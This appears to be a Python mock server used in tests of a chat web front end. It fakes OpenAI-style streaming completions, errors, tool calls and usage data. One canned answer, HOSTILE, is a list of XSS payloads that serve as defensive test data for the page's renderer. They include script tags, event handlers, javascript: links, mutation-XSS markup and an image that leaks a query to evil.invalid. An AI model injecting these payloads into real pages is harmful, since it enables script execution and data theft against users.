#!/usr/bin/env python3
"""A server that looks like Lily's to the page: the page's files, /v1/models and a streamed /v1/chat/completions.

What it answers is chosen by a word of the last message (see ANSWERS and `reply`). It records what it was asked and which
answers were cut by the client. As a program it serves until it is stopped: mock_server.py [--port N] [--key KEY]
"""
import argparse
import json
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

WEB = Path(__file__).resolve().parents[3] / "src" / "server" / "web"
CSP = ("default-src 'none'; script-src 'self'; style-src 'self'; connect-src 'self'; img-src 'self' data:; "
       "base-uri 'none'; form-action 'none'; frame-ancestors 'none'")
TYPES = {".html": "text/html; charset=utf-8", ".css": "text/css; charset=utf-8", ".svg": "image/svg+xml",
         ".js": "text/javascript; charset=utf-8", ".md": "text/plain; charset=utf-8", ".txt": "text/plain; charset=utf-8"}
MODEL = "lily-mock-35b"
WINDOW = 32768

MARKDOWN = """# Sorting

A **stable** sort keeps *equal* items in order. See [the docs](https://example.invalid/sort "docs") and `sorted()`.

1. Split the list
2. Sort both halves
   - recursively

   ```js
   const inner = [1, 2];
   ```
3. Merge them

| algorithm | worst case | stable |
|:----------|-----------:|:------:|
| merge     | n log n    | yes    |
| quick     | n²         | no<br>never |

```python
def merge(a: list, b: list) -> list:
    \"\"\"Both are sorted.\"\"\"
    out = []
    while a and b:  # the smaller head first
        out.append((a if a[0] <= b[0] else b).pop(0))
    return out + a + b + [3.14, "<script>alert(1)</script>"]
```

> It needs memory for one copy.

- [x] done
- [ ] to do

A long line: """ + "unbroken" * 40 + "\n"

# Each of these sets window.hacked or loads something if the page treats it as more than text.
HOSTILE = """<script>window.hacked = 1</script> before <b onclick="window.hacked = 2">bold</b>
<img src=x onerror="window.hacked = 3">

<img src="https://evil.invalid/a.png" onerror="window.hacked = 4"> ![leak](https://evil.invalid/b.png?q=secret)

[click me](javascript:window.hacked=5) [data](data:text/html,<script>window.hacked=6</script>)
[vb](vbscript:x) [tabbed](java&#09;script:window.hacked=7) <javascript:window.hacked=8>

<svg onload="window.hacked = 9"><animate onbegin="window.hacked = 10"></svg>
<iframe srcdoc="<script>parent.hacked = 11</script>"></iframe>
<style>body { display: none }</style><p style="position:fixed;inset:0">cover</p>
<form action="https://evil.invalid"><input name=q></form><base href="https://evil.invalid/">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hacked=12&gt;">

[x]: javascript:window.hacked=13
[reference][x]

```html" onmouseover="window.hacked=14
<script>window.hacked = 15</script>
```

<details open ontoggle="window.hacked = 16"><summary>s</summary></details>
[ok](https://example.invalid/fine)
the end of it
"""
ANSWERS = {"markdown": MARKDOWN, "hostile": HOSTILE}


class Log:
    """What the server saw: the bodies asked, in order, and how many answers the client cut."""

    def __init__(self) -> None:
        self.lock = threading.Lock()
        self.bodies: list[dict] = []
        self.disconnects = 0
        self.failures_left = 1  # how often "flaky" fails before it answers

    def cut(self) -> None:
        with self.lock:
            self.disconnects += 1


class Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    server: "Server"

    def log_message(self, *args) -> None:
        pass

    def head(self, status: int, content_type: str, length: int | None, extra: dict[str, str] | None = None) -> None:
        self.send_response(status)
        self.send_header("Content-Type", content_type)
        self.send_header("Content-Security-Policy", CSP)
        self.send_header("X-Content-Type-Options", "nosniff")
        if length is None:
            self.send_header("Connection", "close")
            self.close_connection = True
        else:
            self.send_header("Content-Length", str(length))
        for name, value in (extra or {}).items():
            self.send_header(name, value)
        self.end_headers()

    def send_json(self, status: int, body: dict, extra: dict[str, str] | None = None) -> None:
        data = json.dumps(body).encode()
        self.head(status, "application/json", len(data), extra)
        self.wfile.write(data)

    def refuse(self, status: int, message: str, code: str, extra: dict[str, str] | None = None) -> None:
        self.send_json(status, {"error": {"message": message, "type": code, "code": code, "param": None}}, extra)

    def locked_out(self) -> bool:
        key = self.server.key
        if not key or self.headers.get("Authorization") == f"Bearer {key}":
            return False
        self.refuse(401, "No valid API key was sent.", "invalid_api_key")
        return True

    def do_GET(self) -> None:
        if self.path == "/v1/models":
            if not self.locked_out():
                self.send_json(200, {"object": "list", "data": [{"id": MODEL, "object": "model", "max_model_len": WINDOW}]})
            return
        name = "index.html" if self.path == "/" else self.path.removeprefix("/web/")
        path = (WEB / name).resolve()
        if not path.is_relative_to(WEB) or not path.is_file() or (self.path != "/" and not self.path.startswith("/web/")):
            self.refuse(404, "no such route", "not_found")
            return
        data = path.read_bytes()
        self.head(200, TYPES[path.suffix], len(data))
        self.wfile.write(data)

    def do_POST(self) -> None:
        body = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        if self.path != "/v1/chat/completions":
            self.refuse(404, "no such route", "not_found")
            return
        if self.locked_out():
            return
        with self.server.log.lock:
            self.server.log.bodies.append(body)
        try:
            self.reply(body, (body["messages"][-1].get("content") or "").lower())
        except (BrokenPipeError, ConnectionResetError):
            self.server.log.cut()

    def reply(self, body: dict, last: str) -> None:
        if "busy" in last:
            self.refuse(429, "The queue is full.", "queue_full", {"Retry-After": "3"})
        elif "broken" in last:
            self.refuse(500, "The worker died.", "internal_error")
        elif "too long" in last:
            self.refuse(400, "The prompt has 40000 tokens, the window 32768.", "context_length_exceeded")
        elif "flaky" in last and self.server.log.failures_left > 0:
            self.server.log.failures_left -= 1
            self.refuse(503, "Not ready.", "not_ready")
        else:
            Stream(self, body).write(last)


class Stream:
    """One streamed answer."""

    def __init__(self, handler: Handler, body: dict) -> None:
        self.handler, self.body = handler, body
        ignored = {"x-lily-ignored": "user"} if "ignored" in json.dumps(body["messages"][-1]) else {}
        handler.head(200, "text/event-stream", None, ignored)

    def event(self, chunk: dict) -> None:
        self.raw(f"data: {json.dumps({'id': 'c1', 'object': 'chat.completion.chunk', 'model': MODEL, **chunk})}\n\n")

    def raw(self, text: str) -> None:
        self.handler.wfile.write(text.encode())
        self.handler.wfile.flush()

    def delta(self, delta: dict, finish: str | None = None) -> None:
        self.event({"choices": [{"index": 0, "delta": delta, "finish_reason": finish}]})

    def words(self, text: str, field: str = "content", pause: float = 0.02) -> None:
        size = 6
        for at in range(0, len(text), size):
            self.delta({field: text[at:at + size]})
            time.sleep(pause)

    def write(self, last: str) -> None:
        self.delta({"role": "assistant", "content": ""})
        self.raw(": keep alive\n\n")
        if "prefill" in last:
            time.sleep(1.5)
        thinking = "think" in last
        if thinking:
            self.words("First I look at the question. " * 3 + "Then <b>I</b> answer.", "reasoning_content", 0.06)
        finish = "stop"
        if self.body.get("tools") and self.body["messages"][-1]["role"] == "user" and "tool" in last:
            self.tool_calls(2 if "two" in last else 1)
            finish = "tool_calls"
        elif "slow" in last:
            self.words("slow words come " * 200, pause=0.05)
        elif "long" in last:
            self.words("Paragraph of a long answer, again and again.\n\n" * 400, pause=0)
        elif "midstream" in last:
            self.words("Half of it")
            self.event({"error": {"message": "The device was lost.", "type": "internal_error", "code": "device_lost"}})
            self.raw("data: [DONE]\n\n")
            return
        elif "hang up" in last:
            self.words("Half of it")
            return
        else:
            self.words(next((text for word, text in ANSWERS.items() if word in last), self.echo()))
        self.end("length" if "cut" in last else finish, thinking)

    def echo(self) -> str:
        return f"Answer {len(self.handler.server.log.bodies)} to: {self.body['messages'][-1].get('content')}"

    def tool_calls(self, number: int) -> None:
        for index in range(number):
            call = {"index": index, "id": f"call_{index}", "type": "function", "function": {"name": "get_weather", "arguments": ""}}
            self.delta({"tool_calls": [call]})
            for part in ['{"city": "Par', 'is ', f'{index}", "unit"', ': "celsius"}']:
                self.delta({"tool_calls": [{"index": index, "function": {"arguments": part}}]})
                time.sleep(0.03)

    def end(self, finish: str, thinking: bool) -> None:
        self.delta({}, finish)
        if self.body.get("stream_options", {}).get("include_usage"):
            prompt = 100 * len(self.body["messages"])
            self.event({
                "choices": [],
                "usage": {"prompt_tokens": prompt, "completion_tokens": 1234, "total_tokens": prompt + 1234,
                          "prompt_tokens_details": {"cached_tokens": prompt - 60},
                          "completion_tokens_details": {"reasoning_tokens": 96 if thinking else 0}},
                "timings": {"queue_s": 0.25, "prefill_tokens": 60, "prefill_s": 0.05, "prefill_tok_s": 1200.0,
                            "decode_tokens": 1234, "decode_s": 36.0, "decode_tok_s": 34.27}})
        self.raw("data: [DONE]\n\n")


class Server(ThreadingHTTPServer):
    """On a free port of 127.0.0.1 by default; `url` says which."""
    daemon_threads = True
    request_queue_size = 64

    def __init__(self, port: int = 0, key: str = "") -> None:
        super().__init__(("127.0.0.1", port), Handler)
        self.key = key
        self.log = Log()
        self.url = f"http://127.0.0.1:{self.server_address[1]}"

    def handle_error(self, request, client_address) -> None:
        pass  # a client that went away is what some tests do

    def start(self) -> "Server":
        threading.Thread(target=self.serve_forever, daemon=True).start()
        return self


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--port", type=int, default=8099)
    parser.add_argument("--key", default="")
    options = parser.parse_args()
    server = Server(options.port, options.key)
    print(server.url, flush=True)
    server.serve_forever()


if __name__ == "__main__":
    main()
